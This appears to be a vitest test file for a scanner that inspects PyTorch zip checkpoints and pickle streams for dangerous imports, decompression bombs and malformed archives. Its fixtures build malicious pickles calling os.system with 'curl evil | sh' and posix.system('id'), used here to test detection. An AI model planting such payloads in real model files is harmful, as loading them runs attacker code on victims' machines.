import { describe, expect, it } from 'vitest';
import { ZipError, openMember, readCentralDirectory } from '../src/formats/zip.js';
import { bufferAccess } from '../src/formats/pickle/source.js';
import { Window } from '../src/formats/pickle/window.js';
import { scanModelBytes, type ModelIssue } from '../src/formats/pickle/model-file.js';
import { compileAllowList } from '../src/formats/pickle/classify.js';
import { callPickle, makeZip, p, torchDataPkl, torchZip } from './pickle-fixtures.js';

async function scan(data: Buffer): Promise<ModelIssue[]> {
  return (await scanModelBytes(data, 'strict', { allow: compileAllowList([]), maxBytes: 1 << 30 })).issues;
}
const codes = (issues: ModelIssue[]): string[] => issues.map((i) => i.code).sort();
const EVIL = callPickle('os', 'system', 'curl evil | sh');
const EVIL0 = Buffer.from("cposix\nsystem\n(S'id'\ntR.", 'latin1');

describe('zip central directory reader', () => {
  it('lists members with sizes and offsets, plain and ZIP64', async () => {
    for (const zip64 of [false, true]) {
      const z = makeZip([{ name: 'a/data.pkl', data: Buffer.from('abc') }, { name: 'b', data: Buffer.alloc(1000, 1), method: 8 }], { zip64, comment: 'hi' });
      const entries = await readCentralDirectory(bufferAccess(z));
      expect(entries.map((e) => [e.name, e.method, e.size])).toEqual([
        ['a/data.pkl', 0, 3],
        ['b', 8, 1000],
      ]);
      const m = await openMember(bufferAccess(z), entries[1]!);
      const w = new Window(m.source);
      expect((await w.take(1000))?.equals(Buffer.alloc(1000, 1))).toBe(true);
    }
  });

  it.each([
    ['no end record', Buffer.from('PK\x03\x04 not really a zip', 'latin1'), /end-of-central-directory/],
    ['directory past the end', (() => {
      const z = makeZip([{ name: 'x', data: Buffer.from('1') }]);
      z.writeUInt32LE(0xfffff, z.length - 6);
      return z;
    })(), /beyond the end/],
  ])('rejects %s', async (_n, data, message) => {
    await expect(readCentralDirectory(bufferAccess(data))).rejects.toThrow(message);
  });

  it('caps the number of entries', async () => {
    const z = makeZip(Array.from({ length: 20 }, (_, i) => ({ name: `m${i}`, data: Buffer.from('x') })));
    const err = await readCentralDirectory(bufferAccess(z), { maxEntries: 10, maxCentralDirectoryBytes: 1 << 20, maxRatio: 100 }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ZipError);
    expect((err as ZipError).budget).toBe(true);
  });
});

describe('PyTorch zip checkpoints', () => {
  const cases: Array<[string, Buffer, string[], RegExp?]> = [
    ['benign checkpoint', torchZip(), []],
    ['benign ZIP64 checkpoint', torchZip(torchDataPkl(), [], { zip64: true }), []],
    ['benign checkpoint with a deflated data.pkl', makeZip([{ name: 'archive/data.pkl', data: torchDataPkl(), method: 8 }, { name: 'archive/data/0', data: Buffer.alloc(4096, 0x4b) }]), []],
    ['malicious data.pkl', torchZip(EVIL), ['dangerous-global'], /member "archive\/data\.pkl": imports os\.system/],
    ['malicious deflated data.pkl', makeZip([{ name: 'archive/data.pkl', data: EVIL, method: 8 }]), ['dangerous-global']],
    ['encrypted flag, bad CRC and a harmless local name', makeZip([{ name: 'archive/data.pkl', data: EVIL, flags: 0x0009, crc: 0xdeadbeef, localName: 'archive/readme.txt' }]), ['dangerous-global'], /archive\/data\.pkl/],
    ['protocol-0 member without an extension', torchZip(torchDataPkl(), [{ name: 'archive/extra', data: EVIL0 }]), ['dangerous-global'], /member "archive\/extra"/],
    ['malicious pickle after a benign one in data.pkl', torchZip(Buffer.concat([torchDataPkl(), EVIL])), ['dangerous-global'], /^member "archive\/data\.pkl", the 2nd pickle \(from byte \d+\): imports os\.system/],
    ['STACK_GLOBAL via memo in a data member', torchZip(torchDataPkl(), [{ name: 'archive/data/1', data: p().proto(4).str('os').memoize().str('system').memoize().pop().pop().get(0).get(1).stackGlobal().stop().build_() }]), ['dangerous-global']],
    ['truncated data.pkl', torchZip(torchDataPkl().subarray(0, 30)), ['malformed'], /data\.pkl": does not parse/],
    ['a pickle prefix before the zip (polyglot)', makeZip([{ name: 'archive/data.pkl', data: EVIL }], { prefix: torchDataPkl() }), ['dangerous-global'], /as a zip/],
    ['deflated member bigger than declared', makeZip([{ name: 'archive/data/0', data: Buffer.alloc(5000, 0x41), method: 8, size: 100 }]), ['malformed'], /more than its declared/],
    ['decompression bomb', makeZip([{ name: 'archive/data/0', data: Buffer.alloc(20 * 1024 * 1024), method: 8 }]), ['budget-exceeded'], /decompression bomb/],
    ['unsupported compression method', (() => {
      const z = makeZip([{ name: 'archive/data.pkl', data: EVIL }]);
      const cd = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
      z.writeUInt16LE(12, cd + 10);
      return z;
    })(), ['malformed'], /compression method 12/],
    ['truncated archive', torchZip().subarray(0, 200), ['malformed'], /way PyTorch reads it/],
    ['zip inside a zip', makeZip([{ name: 'inner.zip', data: torchZip(EVIL) }]), ['dangerous-global'], /member "inner\.zip": member "archive\/data\.pkl"/],
    ['deflated zip inside a zip', makeZip([{ name: 'inner.zip', data: torchZip(EVIL), method: 8 }]), ['dangerous-global']],
  ];
  it.each(cases)('%s', async (_name, data, want, message) => {
    const issues = await scan(data);
    expect(codes(issues)).toEqual(want);
    if (message) expect(issues.map((i) => i.message).join('\n')).toMatch(message);
  });

  it('an archive of many members stays within the read budget', async () => {
    const many = makeZip(Array.from({ length: 300 }, (_, i) => ({ name: `archive/data/${i}`, data: Buffer.alloc(64 * 1024, 0x42) })));
    const r = await scanModelBytes(many, 'strict', { allow: compileAllowList([]), maxBytes: 1024 * 1024 });
    expect(codes(r.issues)).toEqual(['budget-exceeded']);
  });
});
